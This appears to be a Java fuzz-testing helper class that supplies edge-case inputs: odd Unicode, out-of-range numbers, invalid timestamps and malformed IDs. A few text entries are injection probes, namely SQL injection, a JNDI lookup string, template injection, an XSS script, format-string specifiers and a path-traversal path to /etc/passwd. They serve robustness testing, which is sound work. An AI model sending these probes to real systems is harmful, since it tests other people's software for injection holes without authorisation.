package io.demarche.contract.fuzz;

import java.util.List;
import java.util.Random;

/** Values that programs stumble over. */
final class Odd {

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\t\n",
            "\u0000",
            "a\u0000b",
            "\u00e9",
            "e\u0301",
            "\ud83d\ude00\ud83c\uddfa\ud83c\udde6",
            "\u202etxet",
            "\ufeffMoscow",
            "\uffff\ufffe",
            "\u2028",
            "'; drop table article; --",
            "%s%n%x",
            "${jndi:ldap://x.invalid/a}",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "null",
            "true",
            "NaN",
            "0",
            "-1",
            "\\",
            "\"",
            "İstanbul ßſ ﬁ",
            "𝕸𝖔𝖘𝖈𝖔𝖜 rejected it.",
            "Z\u0351\u036b\u0343a\u0313lgo");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "-0",
            "1.5",
            "1e3",
            "1e400",
            "-1e400",
            "9007199254740993",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "99999999999999999999999999999999",
            "0.1e-400",
            "1E+2",
            "00",
            "0x10",
            "+5",
            " 5",
            "5 ",
            "5.",
            ".5",
            "NaN",
            "Infinity",
            "٣",
            "1_000",
            "1,000");

    private static final List<String> TIMES = List.of(
            "2026-01-31",
            "2026-01-31T12:00:00",
            "2026-01-31T12:00Z",
            "2026-13-01T00:00:00Z",
            "2026-02-30T00:00:00Z",
            "2026-01-31T24:00:00Z",
            "2026-01-31T23:59:60Z",
            "2026-01-31T12:00:00+25:00",
            "2026-01-31T12:00:00.1234567890Z",
            "0000-01-01T00:00:00Z",
            "-0001-01-01T00:00:00Z",
            "+99999-01-01T00:00:00Z",
            "9999-12-31T23:59:59.999999999Z",
            "0001-01-01T00:00:00Z",
            "2026-01-31t12:00:00z",
            "1769860800",
            "now");

    private static final List<String> IDS = List.of(
            "1-1-1-1-1",
            "x",
            "0",
            "-1",
            "00000000-0000-0000-0000-000000000000",
            "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
            "0198c5a0-7b1e-7000-8000-00000000000",
            "0198c5a0-7b1e-7000-8000-0000000000011",
            "{0198c5a0-7b1e-7000-8000-000000000001}",
            "0198c5a07b1e70008000000000000001",
            "０198c5a0-7b1e-7000-8000-000000000001",
            "null");

    private Odd() {}

    static String text(Random random) {
        return pick(random, TEXTS);
    }

    static String number(Random random) {
        return pick(random, NUMBERS);
    }

    static String time(Random random) {
        return pick(random, TIMES);
    }

    static String id(Random random) {
        return pick(random, IDS);
    }

    /** Any of the others, or a long one. */
    static String any(Random random) {
        return switch (random.nextInt(12)) {
            case 0, 1, 2 -> number(random);
            case 3, 4 -> time(random);
            case 5, 6 -> id(random);
            case 7 -> "a".repeat(1 + random.nextInt(3_000));
            default -> text(random);
        };
    }

    static <T> T pick(Random random, List<T> from) {
        return from.get(random.nextInt(from.size()));
    }
}
